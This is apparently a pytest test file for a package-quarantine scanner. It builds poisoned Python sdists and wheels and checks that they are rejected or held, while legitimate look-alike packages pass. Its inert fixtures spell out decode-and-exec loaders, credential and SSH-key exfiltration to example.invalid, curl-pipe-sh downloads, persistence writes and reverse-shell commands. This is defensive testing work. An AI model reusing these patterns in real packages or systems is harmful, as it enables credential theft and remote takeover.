"""setup-script-chain, setup-script-pattern, import-time-chain, import-time-pattern,
obfuscated-code, code-uninspectable: poisoned sdists and wheels built here (inert payloads:
echo, print, hosts on example.invalid), and the real-world look-alikes they must let through."""

from __future__ import annotations

import base64
import random
import textwrap
import zlib
from datetime import UTC, datetime

import pytest

from quarantine import CheckContext, Policy, Severity, Verdict, decide, inspect_file
from quarantine.checks import CATALOGUE, code
from quarantine.checks.code import (
    CODE_UNINSPECTABLE,
    IMPORT_TIME_CHAIN,
    IMPORT_TIME_PATTERN,
    MAX_FINDINGS,
    MAX_SOURCE_SIZE,
    OBFUSCATED_CODE,
    SETUP_SCRIPT_CHAIN,
    SETUP_SCRIPT_PATTERN,
)
from tests.support.builders import make_sdist, make_wheel

CODE_IDS = (
    SETUP_SCRIPT_CHAIN,
    SETUP_SCRIPT_PATTERN,
    IMPORT_TIME_CHAIN,
    IMPORT_TIME_PATTERN,
    OBFUSCATED_CODE,
    CODE_UNINSPECTABLE,
)
# This family's checks, as the catalogue runs them (the other families are tested apart).
CODE_CHECKS = [check for check in CATALOGUE if check.id in CODE_IDS]


def test_the_code_checks_are_in_the_catalogue_and_documented():
    assert [check.id for check in CODE_CHECKS] == list(CODE_IDS)
    for check in CODE_CHECKS:
        assert check.run.__module__ == code.__name__ and check.description


PAYLOAD = base64.b64encode(b"print('hello from a test payload')").decode()


def src(text: str) -> bytes:
    return textwrap.dedent(text).lstrip("\n").encode()


def findings(path):
    return inspect_file(path, CheckContext(filename=path.name), checks=CODE_CHECKS).findings


def verdict(path):
    decision = decide(
        Policy(), findings(path), project="demo", uploaded_at=None, now=datetime.now(UTC)
    )
    return decision.verdict


def only(found, check):
    matching = [finding for finding in found if finding.check == check]
    assert len(matching) == 1, found
    return matching[0]


def ids(found):
    return {finding.check for finding in found}


def sdist_with(tmp_path, setup: str, files: dict[str, bytes] | None = None):
    return make_sdist(tmp_path, "demo", "1.0", files={"setup.py": src(setup), **(files or {})})


def wheel_with(tmp_path, files: dict[str, bytes], tag: str = "py3-none-any"):
    return make_wheel(tmp_path, "demo", "1.0", files=files, tag=tag)


# ---------------------------------------------------------------- setup.py chains

DECODE_EXEC_SETUPS = {
    "base64": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n",
    "alias": f"import base64 as b\nimport builtins as bi\nbi.exec(b.b64decode('{PAYLOAD}'))\n",
    "from-import": f"from base64 import b64decode as d\nx = d('{PAYLOAD}')\nexec(x)\n",
    "__import__": (
        "getattr(__import__('built' + 'ins'), 'ex' + 'ec')("
        f"__import__('base64').b64decode('{PAYLOAD}'))\n"
    ),
    "compile": (
        f"import base64\ncode = compile(base64.b64decode('{PAYLOAD}'), '<x>', 'exec')\nexec(code)\n"
    ),
    "rot13": "import codecs\nexec(codecs.decode(\"cevag('uryyb')\", 'rot13'))\n",
    "fromhex": f"exec(bytes.fromhex('{b'print(1)'.hex()}'))\n",
    "zlib": f"import zlib\nexec(zlib.decompress({zlib.compress(b'print(1)')!r}))\n",
    "reversed": "eval(\")'olleh'(tnirp\"[::-1])\n",
    "escaped": (
        "exec('"
        + "".join(f"\\x{c:02x}" for c in b"print('hello from an escaped literal')")
        + "')\n"
    ),
    "shell": f"import os\nos.system('echo {PAYLOAD} | base64 -d | sh')\n",
    "python -c": (
        "import subprocess, sys\n"
        "subprocess.call([sys.executable, '-c', "
        f"\"import base64; exec(base64.b64decode('{PAYLOAD}'))\"])\n"
    ),
    "powershell": "import os\nos.system('powershell -w hidden -enc ZQBjAGgAbwAgAGgAaQA=')\n",
}


@pytest.mark.parametrize("setup", DECODE_EXEC_SETUPS.values(), ids=DECODE_EXEC_SETUPS.keys())
def test_setup_that_executes_decoded_data_is_rejected(tmp_path, setup):
    path = sdist_with(tmp_path, setup)
    finding = only(findings(path), SETUP_SCRIPT_CHAIN)
    assert finding.severity is Severity.CRITICAL
    assert "decodes" in finding.message
    assert finding.path == "demo-1.0/setup.py"
    assert finding.evidence.startswith("demo-1.0/setup.py:")
    assert verdict(path) is Verdict.REJECT


CREDENTIAL_SETUPS = {
    "aws-file": """
        import os, requests
        path = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')
        with open(path) as handle:
            stolen = handle.read()
        requests.post('https://example.invalid/c', data=stolen)
    """,
    "whole-environment": """
        import json, os
        from urllib.request import Request, urlopen
        body = json.dumps(dict(os.environ)).encode()
        urlopen(Request('https://example.invalid/c', data=body))
    """,
    "token-through-function": """
        import os
        import http.client

        def send(value):
            connection = http.client.HTTPSConnection('example.invalid')
            connection.request('POST', '/c', body=value)

        send(os.environ['GITHUB_TOKEN'])
    """,
    "identity-over-socket": """
        import getpass, socket
        s = socket.create_connection(('example.invalid', 443))
        s.sendall(getpass.getuser().encode())
    """,
    "ssh-key-via-curl": """
        import subprocess
        subprocess.run(['curl', '-F', 'k=@' + '/root/.ssh/id_rsa', 'https://example.invalid'])
    """,
}


@pytest.mark.parametrize("setup", CREDENTIAL_SETUPS.values(), ids=CREDENTIAL_SETUPS.keys())
def test_setup_that_sends_credentials_is_rejected(tmp_path, setup):
    path = sdist_with(tmp_path, setup)
    finding = only(findings(path), SETUP_SCRIPT_CHAIN)
    assert (finding.severity, "sends credentials" in finding.message) == (Severity.CRITICAL, True)


DOWNLOAD_SETUPS = {
    "exec-response": (
        "from urllib.request import urlopen\n"
        "exec(urlopen('https://example.invalid/p.py').read())\n",
        Severity.CRITICAL,
    ),
    "curl-pipe-sh": (
        "import subprocess\n"
        "subprocess.call('curl -s https://example.invalid/i.sh | sh', shell=True)\n",
        Severity.CRITICAL,
    ),
    "retrieve-chmod-run": (
        """
        import os, subprocess, tempfile, urllib.request
        target = os.path.join(tempfile.gettempdir(), 'tool')
        urllib.request.urlretrieve('https://example.invalid/tool', target)
        os.chmod(target, 0o755)
        subprocess.call([target])
        """,
        Severity.HIGH,
    ),
    "write-then-run": (
        """
        import requests, subprocess
        data = requests.get('https://example.invalid/tool').content
        with open('/tmp/tool', 'wb') as out:
            out.write(data)
        subprocess.Popen(['/tmp/tool'])
        """,
        Severity.HIGH,
    ),
}


@pytest.mark.parametrize(
    ("setup", "severity"), DOWNLOAD_SETUPS.values(), ids=DOWNLOAD_SETUPS.keys()
)
def test_setup_that_runs_what_it_downloads_is_stopped(tmp_path, setup, severity):
    found = findings(sdist_with(tmp_path, textwrap.dedent(setup)))
    chains = [finding for finding in found if finding.check == SETUP_SCRIPT_CHAIN]
    assert chains and max(f.severity.rank for f in chains) == severity.rank, found
    assert all("download" in finding.message for finding in chains)


PERSISTENCE_SETUPS = {
    "bashrc": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo hi\\n')\n",
    "authorized-keys": """
        from pathlib import Path
        (Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-ed25519 AAAA test')
    """,
    "crontab": "import os\nos.system('(crontab -l; echo \"@reboot echo hi\") | crontab -')\n",
    "pth-in-site-packages": """
        import site
        with open(site.getsitepackages()[0] + '/zz_demo.pth', 'w') as f:
            f.write('import os\\n')
    """,
}


@pytest.mark.parametrize("setup", PERSISTENCE_SETUPS.values(), ids=PERSISTENCE_SETUPS.keys())
def test_setup_that_writes_a_persistence_location_is_held(tmp_path, setup):
    path = sdist_with(tmp_path, setup)
    finding = only(findings(path), SETUP_SCRIPT_CHAIN)
    assert finding.severity is Severity.HIGH and "start-up file" in finding.message
    assert verdict(path) is Verdict.HOLD


@pytest.mark.parametrize(
    "setup",
    [
        """
        import os, socket, subprocess
        s = socket.socket()
        s.connect(('example.invalid', 4444))
        os.dup2(s.fileno(), 0)
        subprocess.call(['/bin/sh', '-i'])
        """,
        "import os\nos.system('bash -i >& /dev/tcp/example.invalid/4444 0>&1')\n",
    ],
    ids=["dup2", "dev-tcp"],
)
def test_setup_with_a_reverse_shell_is_rejected(tmp_path, setup):
    found = findings(sdist_with(tmp_path, textwrap.dedent(setup)))
    finding = only(found, SETUP_SCRIPT_CHAIN)
    assert finding.severity is Severity.CRITICAL and "reverse shell" in finding.message


def test_payload_in_a_cmdclass_run_method_is_found(tmp_path):
    setup = f"""
        import base64
        from setuptools import setup
        from setuptools.command.install import install

        class PostInstall(install):
            def run(self):
                install.run(self)
                exec(base64.b64decode('{PAYLOAD}'))

        setup(name='demo', cmdclass={{'install': PostInstall}})
    """
    finding = only(findings(sdist_with(tmp_path, setup)), SETUP_SCRIPT_CHAIN)
    assert ":8: exec(base64.b64decode(" in finding.evidence


def test_payload_in_a_local_module_setup_imports_is_install_time(tmp_path):
    setup = "from setuptools import setup\nimport _build_helpers\nsetup(name='demo')\n"
    helper = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n".encode()
    path = sdist_with(tmp_path, setup, {"_build_helpers.py": helper})
    finding = only(findings(path), SETUP_SCRIPT_CHAIN)
    assert finding.path == "demo-1.0/_build_helpers.py" and finding.severity is Severity.CRITICAL


def test_in_tree_build_backend_is_install_time(tmp_path):
    pyproject = (
        b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_custom"]\n'
    )
    backend = src(
        """
        from setuptools import build_meta as _orig
        import os

        def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
            os.system('curl -s https://example.invalid/x.sh | sh')
            return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
        """
    )
    path = make_sdist(
        tmp_path,
        "demo",
        "1.0",
        files={"pyproject.toml": pyproject, "_custom/backend.py": backend},
    )
    finding = only(findings(path), SETUP_SCRIPT_CHAIN)
    assert finding.path == "demo-1.0/_custom/backend.py"
    assert finding.severity is Severity.CRITICAL


def test_hatch_build_hook_is_install_time(tmp_path):
    hook = src(
        """
        import os
        from hatchling.builders.hooks.plugin.interface import BuildHookInterface

        class CustomHook(BuildHookInterface):
            def initialize(self, version, build_data):
                open(os.path.expanduser('~/.zshrc'), 'a').write('echo hi')
        """
    )
    path = make_sdist(tmp_path, "demo", "1.0", files={"hatch_build.py": hook})
    assert only(findings(path), SETUP_SCRIPT_CHAIN).path == "demo-1.0/hatch_build.py"


# ---------------------------------------------------------------- setup.py look-alikes

LEGIT_SETUP = """
    import os
    import re
    import subprocess
    import sys
    from setuptools import setup

    here = os.path.abspath(os.path.dirname(__file__))
    with open(os.path.join(here, 'README.md'), encoding='utf-8') as f:
        long_description = f.read()
    about = {}
    with open(os.path.join(here, 'src', 'demo', '__version__.py')) as f:
        exec(f.read(), about)
    exec(open('src/demo/_version.py').read())

    def git_version():
        try:
            out = subprocess.check_output(['git', 'describe', '--tags'], cwd=here)
        except (OSError, subprocess.CalledProcessError):
            return about.get('__version__', '0.0.0')
        return out.decode('ascii').strip()

    if sys.argv[-1] == 'publish':
        os.system('python setup.py sdist upload')
        sys.exit()

    cflags = os.environ.get('CFLAGS', '')
    token_name = 'GITHUB_TOKEN' in os.environ
    setup(name='demo', version=git_version(), long_description=long_description)
"""


def test_ordinary_setup_only_warns(tmp_path):
    path = sdist_with(tmp_path, LEGIT_SETUP)
    found = findings(path)
    assert ids(found) == {SETUP_SCRIPT_PATTERN}
    finding = only(found, SETUP_SCRIPT_PATTERN)
    assert finding.severity is Severity.LOW and "git" in finding.evidence
    assert "(and 1 more)" not in finding.evidence  # two calls: both shown
    assert verdict(path) is Verdict.APPROVE


def test_setup_downloading_a_library_from_a_configured_mirror_only_warns(tmp_path):
    setup = """
        import os, tarfile, urllib.request
        from setuptools import setup
        mirror = os.environ.get('DEMO_LIB_MIRROR', 'https://example.invalid/lib')
        archive, _ = urllib.request.urlretrieve(mirror + '/lib-1.0.tar.gz')
        with tarfile.open(archive) as tar:
            tar.extractall('build/lib')
        setup(name='demo')
    """
    found = findings(sdist_with(tmp_path, setup))
    assert [(f.check, f.severity) for f in found] == [(SETUP_SCRIPT_PATTERN, Severity.LOW)]
    assert "accesses the network" in found[0].message


def test_setup_decoding_data_it_does_not_execute_is_clean(tmp_path):
    setup = """
        import base64, zlib
        from setuptools import setup
        ICON = zlib.decompress(base64.b64decode('eJwLycgsVgCi4pzMvHQA'))
        exec(open('src/demo/_version.py').read())
        setup(name='demo', package_data={'demo': ['icon.png']})
    """
    assert findings(sdist_with(tmp_path, setup)) == ()


def test_same_variable_name_in_two_functions_does_not_chain(tmp_path):
    # pkg_resources does this: `code` is decoded in one function, exec'd in another.
    setup = """
        import base64
        def decode_icon(text):
            code = base64.b64decode(text)
            return len(code)
        def run_script(path):
            code = compile(open(path).read(), path, 'exec')
            exec(code, {})
        decode_icon('aGk=')
        run_script('tools/gen.py')
    """
    assert SETUP_SCRIPT_CHAIN not in ids(findings(sdist_with(tmp_path, setup)))


def test_home_cache_write_and_encoded_blob_only_warn(tmp_path):
    blob = base64.b64encode(random.Random(7).randbytes(1500)).decode()
    setup = f"""
        import os
        DATA = '{blob}'
        cache = os.path.join(os.path.expanduser('~'), '.cache', 'demo')
        with open(os.path.join(cache, 'built.txt'), 'w') as f:
            f.write('ok')
    """
    found = findings(sdist_with(tmp_path, setup))
    assert {f.message for f in found} == {
        code.MESSAGES[rule].format(code=code._WHO["install"])
        for rule in (code.Rule.HOME_WRITE, code.Rule.ENCODED_BLOB)
    }
    assert {(f.check, f.severity) for f in found} == {(SETUP_SCRIPT_PATTERN, Severity.LOW)}


# ---------------------------------------------------------------- import time

INIT_CHAIN = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n".encode()


@pytest.mark.parametrize(
    "member",
    [
        "demo/__init__.py",
        "demo_helper.py",  # a top-level module
        "nspkg/inner/__init__.py",  # below a namespace directory
        "demo-1.0.data/purelib/other/__init__.py",
    ],
)
def test_import_time_chain_in_a_wheel_is_held(tmp_path, member):
    path = wheel_with(tmp_path, {member: INIT_CHAIN}, tag="cp311-cp311-linux_x86_64")
    finding = only(findings(path), IMPORT_TIME_CHAIN)
    assert (finding.severity, finding.path) == (Severity.HIGH, member)
    assert verdict(path) is Verdict.HOLD


def test_import_time_chain_through_a_function_called_at_import(tmp_path):
    init = src(
        """
        import os, urllib.request

        def _report():
            payload = {k: v for k, v in os.environ.items()}
            urllib.request.urlopen('https://example.invalid/r', data=str(payload).encode())

        _report()
        """
    )
    finding = only(findings(wheel_with(tmp_path, {"demo/__init__.py": init})), IMPORT_TIME_CHAIN)
    assert ":5: urllib.request.urlopen(" in finding.evidence


def test_import_time_code_that_does_not_run_on_import_is_left_alone(tmp_path):
    init = src(
        f"""
        import base64

        def unpack(data):
            return exec(base64.b64decode(data))

        if __name__ == "__main__":
            exec(base64.b64decode('{PAYLOAD}'))
        """
    )
    assert findings(wheel_with(tmp_path, {"demo/__init__.py": init})) == ()


def test_sdist_package_init_is_import_time(tmp_path):
    path = make_sdist(tmp_path, "demo", "1.0", files={"src/demo/__init__.py": INIT_CHAIN})
    finding = only(findings(path), IMPORT_TIME_CHAIN)
    assert finding.path == "demo-1.0/src/demo/__init__.py"


def test_submodules_and_tests_are_not_import_time(tmp_path):
    files = {
        "demo/__init__.py": b"from .core import run\n",
        "demo/core.py": INIT_CHAIN,  # runs only if imported; not judged as import-time
        "demo/sub/__init__.py": INIT_CHAIN,
    }
    assert IMPORT_TIME_CHAIN not in ids(findings(wheel_with(tmp_path, files)))
    sdist = make_sdist(tmp_path, "demo", "1.0", files={"tests/__init__.py": INIT_CHAIN})
    assert findings(sdist) == ()


def test_ordinary_init_files_pass(tmp_path):
    files = {
        "demo/__init__.py": src(
            """
            import importlib.metadata
            import os
            import subprocess

            __version__ = importlib.metadata.version('demo')
            DEBUG = os.environ.get('DEMO_DEBUG') == '1'
            try:
                _rev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()
            except Exception:
                _rev = None

            def fetch(url, token=os.environ.get('DEMO_TOKEN')):
                import requests
                return requests.get(url, headers={'Authorization': token})
            """
        )
    }
    path = wheel_with(tmp_path, files)
    found = findings(path)
    assert [(f.check, f.severity) for f in found] == [(IMPORT_TIME_PATTERN, Severity.LOW)]
    assert "git" in found[0].evidence and verdict(path) is Verdict.APPROVE


# ---------------------------------------------------------------- obfuscators


def pyarmored(seed: int = 1) -> bytes:
    blob = random.Random(seed).randbytes(3000)
    return (
        b"# Pyarmor 8.5.0 (trial), 000000, 2024-01-01T00:00:00.000000\n"
        b"from pyarmor_runtime_000000 import __pyarmor__\n"
        b"__pyarmor__(__name__, __file__, " + repr(b"PY000000" + blob).encode() + b")\n"
    )


def test_pyarmor_in_a_pure_wheel_is_held(tmp_path):
    files = {
        "demo/__init__.py": b"from .core import *\n",
        "demo/core.py": pyarmored(),
        "pyarmor_runtime_000000/__init__.py": b"from .pyarmor_runtime import __pyarmor__\n",
    }
    path = wheel_with(tmp_path, files)
    found = [finding for finding in findings(path) if finding.check == OBFUSCATED_CODE]
    runtime, modules = found  # the bundled runtime; the protected modules, with examples
    assert (runtime.severity, runtime.path) == (Severity.MEDIUM, "pyarmor_runtime_000000/")
    assert "bundles a PyArmor runtime" in runtime.message
    assert modules.severity is Severity.MEDIUM and "PyArmor-obfuscated" in modules.message
    assert "demo/core.py:3: __pyarmor__(__name__, __file__, b'PY000000" in modules.evidence
    assert verdict(path) is Verdict.HOLD


def test_pyarmor_in_a_platform_wheel_is_not_this_checks_business(tmp_path):
    files = {"demo/__init__.py": b"", "demo/core.py": pyarmored()}
    path = wheel_with(tmp_path, files, tag="cp311-cp311-manylinux_2_17_x86_64")
    assert OBFUSCATED_CODE not in ids(findings(path))


def test_marshal_blob_is_held(tmp_path):
    blob = random.Random(2).randbytes(2000)
    module = b"import marshal, types\n_c = marshal.loads(" + repr(blob).encode() + b")\n"
    path = wheel_with(tmp_path, {"demo/__init__.py": b"", "demo/_impl.py": module})
    finding = only(findings(path), OBFUSCATED_CODE)
    assert "marshal" in finding.message and finding.evidence.startswith("demo/_impl.py:2:")


def test_marshal_of_runtime_data_is_not_a_blob(tmp_path):
    # keras' func_load: a serialized lambda decoded from its argument
    init = src(
        """
        import codecs, marshal, types

        def func_load(code, globs=None):
            raw = codecs.decode(code.encode('ascii'), 'base64')
            return types.FunctionType(marshal.loads(raw), globs or globals())
        """
    )
    assert findings(wheel_with(tmp_path, {"demo/__init__.py": init})) == ()


@pytest.mark.parametrize("packed", [False, True], ids=["base64", "zlib-base64"])
def test_exec_of_a_long_encoded_literal_in_any_module_is_held(tmp_path, packed):
    rng = random.Random(3)
    body = "\n".join(f"v{i} = {rng.random()!r}  # {rng.getrandbits(64):x}" for i in range(60))
    if packed:
        blob = base64.b64encode(zlib.compress(body.encode())).decode()
        module = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
    else:
        blob = base64.b64encode(body.encode()).decode()
        module = f"import base64\nexec(base64.b64decode('{blob}'))\n"
    files = {"demo/__init__.py": b"", "demo/plugin.py": module.encode()}
    finding = only(findings(wheel_with(tmp_path, files)), OBFUSCATED_CODE)
    assert "encoded literal" in finding.message and finding.path == "demo/plugin.py"


def test_ordinary_exec_in_a_module_is_not_obfuscation(tmp_path):
    # six.exec_, flask's shell startup file, babel's compiled plural rules
    module = src(
        """
        import base64

        def exec_(code, globs=None):
            exec(code, globs)

        exec_(\"\"\"def reraise(tp, value, tb=None):
            raise value\"\"\")

        def load_startup(path):
            with open(path) as f:
                eval(compile(f.read(), path, 'exec'), {})

        CHECKSUM = base64.b64encode(b'abc')
        """
    )
    files = {"demo/__init__.py": b"", "demo/compat.py": module}
    assert findings(wheel_with(tmp_path, files)) == ()


# ---------------------------------------------------------------- code-uninspectable


def test_python2_setup_with_risky_calls_is_held(tmp_path):
    setup = "import subprocess\nprint 'building'\nsubprocess.call(['make'])\n"
    finding = only(findings(sdist_with(tmp_path, setup)), CODE_UNINSPECTABLE)
    assert finding.severity is Severity.MEDIUM and "SyntaxError" in finding.evidence


def test_python2_setup_without_risky_calls_only_warns(tmp_path):
    setup = "from distutils.core import setup\nprint 'building'\nsetup(name='demo')\n"
    finding = only(findings(sdist_with(tmp_path, setup)), CODE_UNINSPECTABLE)
    assert finding.severity is Severity.LOW


def test_oversized_setup_is_held_and_not_read(tmp_path):
    setup = "# " + "x" * MAX_SOURCE_SIZE + "\n"
    finding = only(findings(sdist_with(tmp_path, setup)), CODE_UNINSPECTABLE)
    assert finding.severity is Severity.MEDIUM and "too large" in finding.message


@pytest.mark.parametrize(
    "hostile",
    [
        b"x = " + b"(" * 5000 + b"1" + b")" * 5000 + b"\n",
        b"x = " + b"+".join([b"1"] * 200_000) + b"\n",
        b"exec(" * 150 + b"'print(1)'" + b")" * 150 + b"\n",
        b"import os\x00\nos.system('echo')\n",
        b"\xff\xfe# -*- coding: utf-42 -*-\n",
        b"def f(:\n",
    ],
    ids=["nested-parens", "long-sum", "nested-exec", "null-byte", "bad-coding", "syntax"],
)
def test_hostile_sources_are_findings_never_crashes(tmp_path, hostile):
    path = make_sdist(tmp_path, "demo", "1.0", files={"setup.py": hostile})
    inspection = inspect_file(path, CheckContext(filename=path.name), checks=CODE_CHECKS)
    assert "check-crashed" not in ids(inspection.findings)
    for finding in inspection.findings:
        assert len(finding.evidence) <= 600


# ---------------------------------------------------------------- reporting


def test_many_chains_are_capped_with_a_summary(tmp_path):
    lines = [f"exec(base64.b64decode('{PAYLOAD}'))  # {i}" for i in range(MAX_FINDINGS + 5)]
    setup = "import base64\n" + "\n".join(lines) + "\n"
    found = [f for f in findings(sdist_with(tmp_path, setup)) if f.check == SETUP_SCRIPT_CHAIN]
    assert len(found) == MAX_FINDINGS + 1
    assert found[-1].message == "5 more findings like the above."


def test_evidence_is_path_line_and_clipped_call(tmp_path):
    setup = f"import base64\nexec(base64.b64decode('{'A' * 400}'))\n"
    finding = only(findings(sdist_with(tmp_path, setup)), SETUP_SCRIPT_CHAIN)
    assert finding.evidence.startswith("demo-1.0/setup.py:2: exec(base64.b64decode('AAAA")
    assert finding.evidence.endswith("…") and len(finding.evidence) < 240
